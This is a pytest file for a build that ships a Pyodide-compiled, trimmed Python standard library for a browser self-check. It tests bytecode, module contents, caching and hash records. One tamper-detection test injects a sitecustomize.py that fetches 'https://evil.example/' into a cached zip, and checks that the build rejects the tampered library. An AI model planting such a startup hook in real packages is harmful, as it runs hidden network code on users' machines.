"""The tailored standard library: what the self-check imports, compiled by Pyodide, nothing else.

Its answers are compared with CPython's in ``test_pyodide_node.py`` (Node) and in every browser
test (the built site ships it); these tests hold what it contains, how it is cached, and that the
build refuses one that does not work.
"""

from __future__ import annotations

import ast
import logging
import shutil
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest

from policy_engine.folder import import_name
from policy_site.scaffold import POLICY_TOML
from policy_site.shipping import gzipped, stdlib
from policy_site.shipping.runtime import file_sha256
from policy_site.shipping.stdlib import STDLIB_NAME, StdlibError, tailored_stdlib
from policy_site.shipping.wheel import (
    LOCK_PACKAGE_NAME,
    build_checker_wheel,
    distribution,
    lock_name,
    write_lock,
)
from tests.policies import edited_policy

REPO = Path(__file__).resolve().parents[2]
# The tests' own policy that is data (tests/checker/test_data_policy.py).
GUARANTEE = REPO / "tests" / "fixtures" / "policies" / "print-guarantee"


def data_wheel(folder: Path, cache: Path) -> Path:
    """The wheel the build ships for the policy that is data in ``folder``."""
    name = folder.name
    return build_checker_wheel(
        folder, folder / "policy.toml", cache, distribution(name), data_policy=import_name(name)
    )


# The first word of every .pyc that Python 3.14 writes (importlib.util.MAGIC_NUMBER on 3.14).
PYTHON_314_MAGIC = (3627).to_bytes(2, "little") + b"\r\n"
# The flags word of a hash-based .pyc that is never checked against a source (PEP 552).
UNCHECKED_HASH = (1).to_bytes(4, "little")


def make(shipped: dict[str, Path], cache: Path | None = None) -> Path:
    return tailored_stdlib(
        shipped["runtime"],
        shipped["wheel"],
        shipped["lock"],
        LOCK_PACKAGE_NAME,
        cache or shipped["cache"],
    )


def modules_in(archive_path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(archive_path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def stdlib_imports_of_checker_in_cpython(stock_names: set[str]) -> set[str]:
    """The standard-library files that `import checker` reads in CPython (without site).

    Not the modules CPython has frozen into its binary (``abc``, ``codecs``, the import system):
    Pyodide's Python has the same ones frozen.
    """
    code = (
        "import sys; sys.path.insert(0, sys.argv[1]); import checker; "
        "print('\\n'.join(name for name, module in sys.modules.items() "
        "if getattr(getattr(module, '__spec__', None), 'origin', '') not in "
        "(None, 'frozen', 'built-in')))"
    )
    loaded = subprocess.run(
        [sys.executable, "-I", "-S", "-c", code, str(REPO)],
        capture_output=True,
        text=True,
        check=True,
    ).stdout.split()
    files = set()
    for name in loaded:
        stem = name.replace(".", "/")
        for candidate in (f"{stem}/__init__.py", f"{stem}.py"):
            if candidate in stock_names:
                files.add(candidate)
    return files


def test_it_holds_only_bytecode_compiled_by_pyodides_python(tailored: Path) -> None:
    entries = modules_in(tailored)
    assert entries and all(name.endswith(".pyc") for name in entries), sorted(entries)
    magic_numbers = {data[:4] for data in entries.values()}
    assert len(magic_numbers) == 1, "every module was compiled by the same interpreter"
    # Python 3.14's bytecode (Pyodide 314 is Python 3.14.2), whatever Python runs the build.
    assert magic_numbers == {PYTHON_314_MAGIC}
    assert all(data[4:8] == UNCHECKED_HASH for data in entries.values())


def test_it_holds_every_standard_module_the_checker_imports(
    tailored: Path, shipped: dict[str, Path]
) -> None:
    stock_names = set(modules_in(shipped["runtime"] / STDLIB_NAME))
    needed = stdlib_imports_of_checker_in_cpython(stock_names)
    assert {"json/__init__.py", "tomllib/_parser.py", "dataclasses.py"} <= needed
    compiled = {name.removesuffix("c") for name in modules_in(tailored)}
    # By module or package: CPython here is 3.13, Pyodide's 3.14, and how a package splits into
    # submodules changes between versions (3.13's pathlib imports pathlib._local; 3.14 has none).
    top = {name.split("/")[0].removesuffix(".py") for name in needed}
    assert top <= {name.split("/")[0].removesuffix(".py") for name in compiled}
    assert "pathlib" in top and "urllib" in top
    # Pyodide's own start-up modules and the package loader's are there too.
    assert {"_pyodide/_base.py", "pyodide/_package_loader.py", "zipfile/__init__.py"} <= compiled


def test_it_is_a_fraction_of_the_stock_library(tailored: Path, shipped: dict[str, Path]) -> None:
    stock = shipped["runtime"] / STDLIB_NAME
    assert len(modules_in(tailored)) < len(modules_in(stock)) / 3
    # As it ships (policy_site/shipping/__init__.py: stored, gzipped as a whole): under half the
    # stock zip's bytes on the wire, whether the host compresses zips or not.
    assert gzipped(tailored).stat().st_size < 0.5 * stock.stat().st_size


def test_it_is_made_once_and_then_taken_from_the_cache_without_node(
    tailored: Path, shipped: dict[str, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PATH", "/nonexistent")
    start = time.monotonic()
    assert make(shipped) == tailored
    assert time.monotonic() - start < 5


def test_without_node_the_build_says_what_to_install_or_switch_off(
    shipped: dict[str, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PATH", "/nonexistent")
    with pytest.raises(StdlibError) as raised:
        make(shipped, cache=tmp_path)
    message = str(raised.value)
    assert "Install Node.js" in message and "fast_start: false" in message


def test_a_library_that_misses_a_module_the_checker_needs_is_refused(
    tailored: Path, shipped: dict[str, Path], tmp_path: Path
) -> None:
    # The step every tailored library passes before it is cached, given one that lacks the TOML
    # parser the checker imports. (That a failed step publishes nothing is test_cache.py's.)
    forgetful = tmp_path / STDLIB_NAME
    with zipfile.ZipFile(tailored) as whole, zipfile.ZipFile(forgetful, "w") as part:
        for item in whole.infolist():
            if not item.filename.startswith("tomllib/"):
                part.writestr(item, whole.read(item))
    node = shutil.which("node")
    assert node is not None
    request = stdlib._request(shipped["runtime"], shipped["lock"], LOCK_PACKAGE_NAME)
    assert stdlib.try_library(node, request, tailored)["results"]  # the whole one works

    with pytest.raises(StdlibError) as raised:
        stdlib.try_library(node, request, forgetful)
    message = str(raised.value)
    assert "ModuleNotFoundError: No module named 'tomllib'" in message, message
    assert "fast_start: false" in message
    assert "Traceback" not in message and "at " not in message.split("tomllib")[-1]


def test_new_policy_values_reuse_it(shipped: dict[str, Path], tmp_path: Path) -> None:
    # Policy values import nothing: editing them must not cost editors a Node run per save.
    other_policy = edited_policy(tmp_path, "refund_window_days = 7", "refund_window_days = 14")
    other_wheel = build_checker_wheel(REPO / "checker", other_policy, tmp_path / "wheels")
    assert other_wheel.read_bytes() != shipped["wheel"].read_bytes()
    assert stdlib._content_key(other_wheel) == stdlib._content_key(shipped["wheel"])


def test_a_module_the_checker_starts_to_import_is_shipped(
    shipped: dict[str, Path], tailored: Path, tmp_path: Path
) -> None:
    # The tailoring step alone (that every tailored library is then tried is tested above).
    changed = tmp_path / "checker"
    shutil.copytree(REPO / "checker", changed, ignore=shutil.ignore_patterns("__pycache__"))
    rules = changed / "policy.py"
    rules.write_text(rules.read_text(encoding="utf-8") + "\nimport fractions\n", "utf-8")
    wheel = build_checker_wheel(changed, REPO / "checker" / "policy.toml", tmp_path / "wheels")
    lock = write_lock(shipped["runtime"] / "pyodide-lock.json", wheel, tmp_path / "site")
    node = shutil.which("node")
    assert node is not None
    request = stdlib._request(shipped["runtime"], lock, LOCK_PACKAGE_NAME)
    made = tmp_path / STDLIB_NAME
    report = stdlib.tailor_library(node, request, made)
    assert "fractions" in report["modules"]
    assert "fractions.pyc" in modules_in(made)
    assert "fractions.pyc" not in modules_in(tailored)


def test_the_checker_imports_everything_when_it_is_imported() -> None:
    # The build learns what to ship by importing the checker and running it; an import inside a
    # function that only some answers or policy values reach could be missed, and the visitor
    # would get "No module named …" instead of an answer. So imports stay at the top of modules.
    late = []
    for file in sorted((REPO / "checker").glob("*.py")):
        tree = ast.parse(file.read_text(encoding="utf-8"))
        top_level = {id(node) for node in tree.body}
        for node in ast.walk(tree):
            if isinstance(node, ast.Import | ast.ImportFrom) and id(node) not in top_level:
                late.append(f"{file.name}:{node.lineno}")
    assert late == [], f"imports inside functions or blocks: {late}"


def test_the_repository_records_the_hash_of_the_library_the_build_ships(
    tailored: Path, shipped: dict[str, Path]
) -> None:
    # Without it, every build makes the library again under Node: the build says which line to
    # add (policy_site/shipping/tailored-stdlib.sha256) when the checker's code changes.
    key = stdlib._content_key(shipped["wheel"])
    assert stdlib.recorded().get(key) == file_sha256(tailored), (
        f"add the line “{key} {file_sha256(tailored)}” to "
        "policy_site/shipping/tailored-stdlib.sha256"
    )


def made_by_node_as_before(
    tailored: Path, monkeypatch: pytest.MonkeyPatch
) -> list[tuple[str, ...]]:
    """Stand in for the Node run (``_make``: tailor, then try) with what it made for this code
    earlier in the session, so that a test of what the cache and the record decide costs no
    Node run; the calls it was asked for are returned. The run itself is tested above."""
    calls: list[tuple[str, ...]] = []

    def make_as_before(core: Path, wheel: Path, lock: Path, package: str, target: Path) -> Path:
        calls.append((package, target.name))
        if shutil.which("node") is None:  # as the real one (tested above) says
            raise StdlibError("Node.js is needed to prepare the self-check's standard library")
        target.mkdir(parents=True, exist_ok=True)
        shutil.copy(tailored, target / STDLIB_NAME)
        return target / STDLIB_NAME

    monkeypatch.setattr(stdlib, "_make", make_as_before)
    return calls


def test_a_cached_library_changed_with_its_hash_beside_it_is_not_shipped(
    tailored: Path, shipped: dict[str, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The cache cannot vouch for itself: a sitecustomize.py added to the cached zip, with a
    # matching .sha256 written beside it, is thrown away and the library made afresh.
    made = made_by_node_as_before(tailored, monkeypatch)
    cache = tmp_path / "cache"
    shutil.copytree(tailored.parent, cache / "stdlib" / tailored.parent.name)
    copy = cache / "stdlib" / tailored.parent.name / STDLIB_NAME
    assert make(shipped, cache=cache) == copy  # as recorded: taken as it is
    assert made == []
    with zipfile.ZipFile(copy, "a") as archive:
        archive.writestr("sitecustomize.py", "import js; js.fetch('https://evil.example/')\n")
    (copy.parent / f"{STDLIB_NAME}.sha256").write_text(file_sha256(copy) + "\n")
    assert make(shipped, cache=cache) == copy
    assert len(made) == 1, "made afresh"
    assert "sitecustomize.py" not in modules_in(copy)
    assert file_sha256(copy) == file_sha256(tailored)


def test_without_a_record_the_cache_is_not_trusted_and_the_build_says_what_to_record(
    tailored: Path,
    shipped: dict[str, Path],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
) -> None:
    made_afresh = made_by_node_as_before(tailored, monkeypatch)
    cache = tmp_path / "cache"
    shutil.copytree(tailored.parent, cache / "stdlib" / tailored.parent.name)
    record = tmp_path / "tailored-stdlib.sha256"
    record.write_text("# nothing recorded yet\n", encoding="utf-8")
    monkeypatch.setattr(stdlib, "RECORD", record)
    # Made afresh (so Node is needed), though the cache holds a library for this key.
    with monkeypatch.context() as without_node:
        without_node.setenv("PATH", "/nonexistent")
        with pytest.raises(StdlibError, match=r"Node\.js is needed"):
            make(shipped, cache=cache)
    with caplog.at_level(logging.INFO):
        made = make(shipped, cache=cache)
    key = stdlib._content_key(shipped["wheel"])
    assert f"Record it: add the line “{key} {file_sha256(made)}”" in caplog.text
    # A record that does not match what the build makes stops it.
    record.write_text(f"{key} {'0' * 64}\n", encoding="utf-8")
    with pytest.raises(StdlibError) as raised:
        make(shipped, cache=cache)
    assert f"its sha256 ({file_sha256(tailored)}) is not the one" in str(raised.value)
    assert len(made_afresh) == 3  # each time: the cache held it, but nothing vouched for it


def test_every_policy_that_is_data_shares_one_library(tmp_path: Path) -> None:
    # A new policy made by ./run new-policy and the print guarantee: other values, questions and
    # clauses, the same code (the engine and the generated module), so one library and one line
    # of tailored-stdlib.sha256 serve both, and a new policy needs no edit of that file.
    scaffolded = tmp_path / "returns"
    scaffolded.mkdir()
    (scaffolded / "policy.toml").write_text(
        POLICY_TOML.format(
            name="returns",
            title="returns policy",
            email="support@example.invalid",
            sales_started="2024-01-01",
            effective="2026-12-19",
            month="December 2026",
        ),
        encoding="utf-8",
    )
    returns = data_wheel(scaffolded, tmp_path / "wheels")
    guarantee = data_wheel(GUARANTEE, tmp_path / "wheels")
    assert returns.name != guarantee.name
    with zipfile.ZipFile(returns) as archive:
        assert "policy_of_returns/__init__.py" in archive.namelist()
        assert not [name for name in archive.namelist() if name.startswith("policies/")]
    assert stdlib._content_key(returns) == stdlib._content_key(guarantee)


def test_the_repository_records_the_library_of_policies_that_are_data(
    shipped: dict[str, Path], tmp_path: Path
) -> None:
    # The refund policy's package and the policies that are data run the same engine through
    # other modules: each kind has its line. Made (or taken from the cache) as the build does.
    wheel = data_wheel(GUARANTEE, shipped["cache"])
    lock = write_lock(shipped["runtime"] / "pyodide-lock.json", wheel, tmp_path / "site")
    made = tailored_stdlib(
        shipped["runtime"], tmp_path / "site" / wheel.name, lock, lock_name(wheel), shipped["cache"]
    )
    key = stdlib._content_key(wheel)
    assert stdlib.recorded().get(key) == file_sha256(made), (
        f"add the line “{key} {file_sha256(made)}” to policy_site/shipping/tailored-stdlib.sha256"
    )
